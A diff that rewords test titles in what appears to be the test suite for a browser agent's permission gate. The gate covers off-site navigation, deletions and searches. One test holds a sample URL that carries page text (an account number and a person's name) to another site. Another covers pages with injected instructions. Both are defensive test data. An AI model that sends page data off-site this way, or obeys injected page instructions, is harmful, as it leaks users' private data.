@@ -69,12 +69,12 @@ describe("going somewhere", () => {
 	test.each([
 		["a host in the query", { origins: taskOrigins(home, "Look at other.example for tea") }],
 		["a site's name in the query", { query: "Search for tea on Other" }],
-		["a site that the person allowed", { origins: ["shop.example", "other.example"] }],
-	] as const)("elsewhere is no elsewhere when it is %s", (_name, facts) => {
+		["a site that the user allowed", { origins: ["shop.example", "other.example"] }],
+	] as const)("another site is part of the task when it is %s", (_name, facts) => {
 		expect(outcomes({ action: 'navigate("https://other.example/tea")', facts })).toBe(plainNavigation);
 	});
 
-	test("an address that carries the page's text away asks in every mode, the user's own words do not count", () => {
+	test("an address that leaks page text asks in every mode, words of the user do not count", () => {
 		const body = "Account number 4711 0815 of Ada Lovelace";
 		const action = 'navigate("https://other.example/?q=Ada%20Lovelace%20number%20is%20account%20number%204711%200815%20of")';
 		expect(outcomes({ action, body })).toBe("navigate_offsite: ask, ask");
@@ -82,7 +82,7 @@ describe("going somewhere", () => {
 		expect(outcomes({ action: own, body, facts: { query: "Look up account number 4711 0815 there" } })).toBe(offsite);
 	});
 
-	test("a page that gives orders makes every way elsewhere ask", () => {
+	test("a page with injected instructions makes every way to another site ask", () => {
 		expect(outcomes({ action: 'navigate("https://other.example/")', facts: { isTainted: true } })).toBe("navigate_offsite: ask, ask");
 	});
 });
@@ -188,7 +188,7 @@ describe("the floor asks in every mode", () => {
 		expect(gateOf({ action: "click(1)", body, facts: { mode: "autonomous" } }).kind).not.toBe("ask");
 	});
 
-	test("destroying what the task itself says is no surprise, and a commitment all the same", () => {
+	test("a requested deletion is an ordinary commitment", () => {
 		expect(outcomes({ action: "click(1)", body: "<button 1>Delete account", facts: { query: "Delete my old account" } })).toBe(plainCommit);
 	});
 
@@ -260,7 +260,7 @@ describe("what must never be opened is refused", () => {
 	});
 });
 
-test("searches that the person allowed for the rest of the task are not asked for again", () => {
+test("searches that the user allowed for the rest of the task are not asked for again", () => {
 	const allowed = { allowsSearches: true } as const;
 	const search = '<form "Search" get>\n <search 1 "q">\n <button 9 submit>Go';
 	expect(outcomes({ action: "click(9)", body: search, facts: allowed })).toBe("commit: allow, warn");
